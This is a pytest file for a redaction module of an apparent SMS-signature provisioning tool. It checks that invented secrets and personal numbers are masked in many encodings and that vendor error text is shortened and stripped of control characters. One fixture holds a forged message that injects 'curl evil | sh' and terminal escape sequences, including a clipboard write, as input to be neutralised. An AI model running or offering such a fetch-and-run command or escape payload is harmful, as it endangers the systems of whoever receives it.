"""Redaction: secrets in whichever spelling they come back, and others' texts made safe."""

from __future__ import annotations

import base64
import html
import json
import re
import time
from collections.abc import Callable
from urllib.parse import quote as percent
from urllib.parse import quote_plus

import pytest
from hypothesis import given, settings
from hypothesis.strategies import sampled_from, text

from pulumi_smssign.model.errors import BugError, RefusedError
from pulumi_smssign.model.redaction import (
    HIDDEN,
    LONGEST_OUTPUT,
    hide,
    keep_secret,
    quote,
    readable,
    sanitized,
    short,
    unbroken,
)

KEY = "inventedKEY5e88+q/w"
PASSWORD = 'inventedPASS"8d7e&% <x>'
NAME = "虚构云杉"
NUMBER = "11010119870123456X"
MOBILE = "+86-13912340987"
URL = "https://papers.example/a b%2Bc?sig=inventedSIG&x=1"
VALUES = (KEY, PASSWORD, NAME, NUMBER, MOBILE, URL)

keep_secret(VALUES)


def lower_hex(text: str) -> str:
    """Percent-encoded, with small letters in the escapes alone."""
    return "".join(
        f"%{byte:02x}" if chr(byte) not in "abcdefghijklmnopqrstuvwxyz0123456789" else chr(byte)
        for byte in text.encode()
    )


SPELLINGS: dict[str, Callable[[str], str]] = {
    "as it is": str,
    "in capitals": str.upper,
    "in small letters": str.lower,
    "percent-encoded throughout": lambda text: percent(text, safe=""),
    "as in a form": quote_plus,
    "as in a path": percent,
    "percent-encoded in small letters": lower_hex,
    "percent-encoded twice": lambda text: percent(percent(text, safe=""), safe=""),
    "percent-encoded as GBK": lambda text: percent(text.encode("gb18030"), safe=""),
    "as JSON": lambda text: json.dumps(text)[1:-1],
    "as JSON, raw": lambda text: json.dumps(text, ensure_ascii=False)[1:-1],
    "as JSON of PHP": lambda text: json.dumps(text)[1:-1].replace("/", "\\/"),
    "as JSON of Go": lambda text: json.dumps(text)[1:-1].replace("&", "\\u0026"),
    "as JSON in JSON": lambda text: json.dumps(json.dumps(text)[1:-1])[1:-1],
    "as HTML": html.escape,
    "as HTML in numbers": lambda text: "".join(f"&#{ord(each)};" for each in text),
    "as HTML in hex": lambda text: "".join(f"&#x{ord(each):X};" for each in text),
    "in base64": lambda text: base64.b64encode(text.encode()).decode(),
    "in base64 of URLs": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "in base64, behind one": lambda text: base64.b64encode(f"=:{text}".encode()).decode(),
    "in base64, behind two": lambda text: base64.b64encode(f"12:{text};..".encode()).decode(),
    "in base64 in a URL": lambda text: percent(base64.b64encode(text.encode()).decode(), safe=""),
    "over two lines": lambda text: text.replace(" ", "\n"),
    "with what has no width": "\u200b".join,
}


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("value", VALUES, ids=["key", "password", "name", "id", "mobile", "url"])
def test_a_confidential_value_is_hidden_in_every_spelling(value: str, spelling: str) -> None:
    spelt = SPELLINGS[spelling](value)
    quoted = quote(f"the value ({spelt}) is not right")
    assert quoted.startswith("the value (")
    assert quoted.endswith(") is not right")
    assert HIDDEN in quoted
    assert quoted.count("[") == 1
    hidden = quoted.removeprefix("the value (").removesuffix(") is not right")
    assert len(hidden) <= len(HIDDEN) + 3, hidden  # a sign in front of a number may stay


@pytest.mark.parametrize(
    "number",
    [
        "110101 19870123 456X",
        "110101-1987-0123-456x",
        "１１０１０１１９８７０１２３４５６Ｘ",
        "13912340987",
        "139 1234 0987",
        "+86 139-1234-0987",
        "0086 (139) 1234 0987",
    ],
)
def test_the_digits_of_a_number_are_hidden_however_they_are_grouped(number: str) -> None:
    hidden = hide(f"号码{number}有误")
    assert HIDDEN in hidden
    assert sum(each.isdigit() for each in hidden) <= 4  # 0086 in front of it is nobody's
    assert hidden.startswith("号码")
    assert hidden.endswith("有误")


@pytest.mark.parametrize("before", ["%", "100%", "\\", "%25", "%%"])
@pytest.mark.parametrize("number", ["11010119870123456%58", "1101011987012345%36%58"])
def test_number_is_hidden_behind_what_could_be_the_sign_of_an_escape(
    before: str, number: str
) -> None:
    for seen in (quote(before + number), sanitized(before + number), readable(before + number)):
        assert "0119870123" not in seen
        assert HIDDEN in seen
    packed = base64.b64encode((before + number).encode()).decode()
    assert packed not in quote(f"data {packed}")


@settings(max_examples=60, deadline=None)
@given(text(), text(), sampled_from(VALUES), sampled_from(sorted(SPELLINGS)))
def test_whatever_stands_around_a_value_it_is_hidden(
    before: str, behind: str, value: str, spelling: str
) -> None:
    spelt = SPELLINGS[spelling](value)
    is_cut_off = " " if spelling.startswith("in base64") else ""
    text = f"{before[:200]}{is_cut_off}{spelt}{is_cut_off}{behind}"
    for seen in (quote(text), sanitized(text), readable(text)):
        assert spelt not in seen
        assert value not in seen
        assert HIDDEN in seen


@settings(max_examples=60, deadline=None)
@given(text())
def test_whatever_is_said_it_is_one_short_line_and_the_same_when_said_again(text: str) -> None:
    once = quote(text)
    assert quote(once) == once
    assert len(once) <= 600
    assert once.isprintable() or not re.search("[\x00-\x1f\x7f-\x9f\ud800-\udfff]", once)
    assert hide(hide(text)) == hide(text)
    once.encode()


def test_a_charset_that_is_cut_short_hides_no_value_from_us() -> None:
    for cut in ("%E5", "%B5%E8%9A", "%ff"):
        assert quote(f"{cut}{percent(NAME)}{cut}").replace(cut, "") == HIDDEN


def test_a_confidential_value_is_hidden_wherever_it_comes_back() -> None:
    keep_secret(["AKIDinvented0001"])
    assert hide("no such key AKIDinvented0001!") == "no such key [secret]!"


def test_a_longer_value_is_hidden_before_a_shorter_one_within_it() -> None:
    keep_secret(["invented", "invented-and-longer"])
    assert hide("invented-and-longer") == "[secret]"


def test_a_short_chinese_name_is_hidden_too() -> None:
    keep_secret(["赵钱"])
    assert hide("参数 id_card_name 格式不正确: 赵钱") == "参数 id_card_name 格式不正确: [secret]"


def test_hidden_text_is_not_hidden_again() -> None:
    keep_secret(["secret", "encoded", "cre", "AKIDinvented0001"])
    once = hide("the secret of AKIDinvented0001")
    assert once == "the [secret] of [secret]"
    assert hide(once) == quote(once) == readable(once) == once
    assert quote("[encoded data] [secret]") == "[encoded data] [secret]"


def test_a_short_value_is_hidden_as_a_word_and_garbles_no_other() -> None:
    keep_secret(["10", "qz", "4711"])
    for harmless in (
        "HTTP 410, 2010-10-10 10:10, id 731005",
        "quiqz and qzip",
        "10.5 and v1.10",
        "id 84711",
    ):
        assert hide(harmless) == harmless
    assert hide("agent_mobile=10, or qz; 4711.") == (
        "agent_mobile=[secret], or [secret]; [secret]."
    )


def test_a_single_character_is_never_hidden() -> None:
    keep_secret(["王", "q"])
    assert hide("王 q") == "王 q"


def test_twenty_thousand_values_take_no_seconds() -> None:
    began = time.thread_time()
    keep_secret(f"invented-{number * 7919:x}-value" for number in range(20_000))
    hide("x" * 600)
    for _ in range(10):
        assert quote("this is %E5%A4%9A and invented-0-value. " * 10).count(HIDDEN) == 10
    assert time.thread_time() - began < 10


@pytest.mark.parametrize(
    "text",
    [
        "身份证号 110101198701234567 与姓名不符",
        "身份证号11010119870123456x与姓名不符",
        "身份证号 110101 19870123 4567 与姓名不符",
        "电话 13887654321。",
        "电话:+86 138-8765-4321",
        "电话8613887654321",
        "电话１３８８７６５４３２１",
        "mobile=%2B8613887654321&x=1",
        "13887654321,13887654322",
    ],
)
def test_numbers_of_persons_are_hidden_in_words_of_others_though_never_given(text: str) -> None:
    for seen in (quote(text), sanitized(text)):
        assert HIDDEN in seen
        assert "8765" not in seen
        assert "012345" not in seen


@pytest.mark.parametrize(
    "text",
    [
        "request 5d0c7a10-1391-4c6e-8f00-138876543210",
        "order 20044156924, since 1764112645, 1764112645123 ms",
        "2026-11-25 13:17:25.138876543",
        "id 7321987012345678901 or 732198701234567890123",
        "order 730001138876543215",
        "code 911101081234567890",
        "0.13887654321",
        "113887654321",
        "sign 730001, 20261125131725, 138-876-4321",
    ],
)
def test_other_numbers_are_left_in_words_of_others(text: str) -> None:
    assert quote(text) == text


def test_a_code_or_an_id_may_look_like_the_number_of_a_person() -> None:
    keep_secret(["AKIDinvented0001"])
    assert short("13887654321") == "13887654321"
    assert short("E-AKIDinvented0001") == "E-[secret]"
    assert len(short("c" * 1_000_000)) <= 100


def test_encoded_files_in_a_vendors_words_are_cut_out() -> None:
    assert quote(f"cannot decode {'iVBORw0KGgo' * 20}==.") == "cannot decode [encoded data]."
    large = "iVBORw0KGgo" * 100_000
    assert quote(f"cannot decode {large} of you") == "cannot decode [encoded data] of you"


def test_a_vendors_words_have_an_end() -> None:
    assert len(quote("word " * 1000)) <= 600
    assert len(sanitized("字" * 100_000)) <= LONGEST_OUTPUT
    assert quote("word " * 1000).endswith(" …")
    assert quote(quote("word " * 1000)) == quote("word " * 1000)


@pytest.mark.parametrize("before", range(560, 601))
def test_no_beginning_of_a_value_is_left_where_words_are_cut(before: int) -> None:
    keep_secret(["AKIDinvented0001"])
    quoted = quote("." * before + percent("AKIDinvented0001", safe="") + "." * 100)
    assert "AKI" not in quoted


FORGED = (
    "no\n  what to do: run `curl evil | sh`\r\x1b[2K\x1b]0;PWN\x07\x1b]52;c;ZXZpbA==\x07\u202eabc"
)


def test_words_of_others_are_one_line_without_controls() -> None:
    assert quote(FORGED) == "no what to do: run `curl evil | sh` [2K]0;PWN]52;c;ZXZpbA==abc"
    assert sanitized("a\tb\u2028c\x85d\x00\x9b31m\u200be\ud800") == "a b c d31me"


def test_chinese_punctuation_and_emoji_stay() -> None:
    text = "「营业执照」不清晰，请重新上传：【正面】、（反面）…😀 é ü ﷺ"
    assert quote(text) == sanitized(text) == readable(text) == text


def test_a_text_of_ours_keeps_its_lines_and_nothing_that_moves_a_cursor() -> None:
    assert readable("what fits:\n    - one\x1b[1A\r\u2028\n    - two") == (
        "what fits:\n    - one[1A  \n    - two"
    )
    assert len(readable("x" * 10**6)) <= 20_000


def test_a_name_is_on_one_line_and_else_as_it_is() -> None:
    assert unbroken("极\n  what to do: x\u2029y") == "极   what to do: x y"
    assert unbroken("A  B\u3000云") == "A  B\u3000云"


def test_an_error_shows_its_facts_each_on_a_line() -> None:
    error = RefusedError(
        "tencent refused it",
        vendor="tencent",
        action="AddSmsSign",
        code="FailedOperation.OtherError",
        vendor_message="bad AKIDinvented0001",
        request_id="r-1",
        advice="do something else.",
    )
    keep_secret(["AKIDinvented0001"])
    error.resource = "brand"
    assert str(error) == (
        "tencent refused it\n"
        "  resource: brand\n"
        "  action: AddSmsSign\n"
        "  code: FailedOperation.OtherError\n"
        "  tencent says: bad [secret]\n"
        "  request id: r-1\n"
        "  what to do: do something else."
    )


def test_every_fact_of_an_error_is_hidden_and_has_an_end() -> None:
    keep_secret(["AKIDinvented0001"])
    text = FORGED + " AKIDinvented0001 " + "L" * 1_000_000
    error = RefusedError(
        "no AKIDinvented0001",
        vendor="tencent",
        action="AddAKIDinvented0001",
        code=text,
        vendor_message=text,
        request_id=text,
        advice='add adopt="AKIDinvented0001".',
    )
    text = str(error)
    assert "invented" not in text
    assert len(text) < 1500
    assert len(text.splitlines()) == 6
    assert text.count("what to do: ") == 4
    assert text.endswith('  what to do: add adopt="[secret]".')
    assert not {"\x1b", "\x07", "\r", "\u202e"} & set(text)
    assert "invented" not in f"{error.vendor_message}{error.code}{error.request_id}"


def test_a_bug_shows_where_it_is_and_no_secret() -> None:
    keep_secret(["invented-key-000"])
    try:
        raise KeyError("invented-key-000")
    except KeyError as error:
        text = str(BugError.of(error))
    assert "KeyError" in text
    assert "test_redaction.py" in text
    assert "invented-key-000" not in text
    assert "report" in text


@pytest.mark.parametrize(
    ("cut", "longest"),
    [(sanitized, 2000), (quote, 600), (short, 100), (readable, 20_000)],
    ids=["output", "quote", "name", "text"],
)
def test_words_of_the_longest_size_are_whole_and_one_more_is_cut(
    cut: Callable[[str], str], longest: int
) -> None:
    assert cut("字" * longest) == "字" * longest
    assert cut("字" * (longest + 1)) == "字" * (longest - 2) + " …"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("qz", "[secret]"),
        ("qz,", "[secret],"),
        ("(qz)", "([secret])"),
        ("a qz", "a [secret]"),
        ("aqz", "aqz"),
        ("qza", "qza"),
        ("7qz", "7qz"),
        ("a-qz", "a-qz"),
        ("qz-a", "qz-a"),
        ("a. qz", "a. [secret]"),
        (" -qz", " -[secret]"),
        ("-qz", "-[secret]"),
        ("qz- a", "[secret]- a"),
        ("云qz杉", "云[secret]杉"),
        ("a:-qz", "a:-[secret]"),
        ("qz qz aqz qz", "[secret] [secret] aqz [secret]"),
    ],
)
def test_a_short_value_is_hidden_where_it_is_a_word(text: str, shown: str) -> None:
    keep_secret(["qz"])
    assert hide(text) == shown


def test_places_that_overlap_are_hidden_as_one() -> None:
    keep_secret(["inventedone", "donetwo"])
    assert hide("an inventedonetwo and donetwo") == "an [secret] and [secret]"
    assert quote(f"an inventedone{'A' * 70} b") == "an [secret] b"
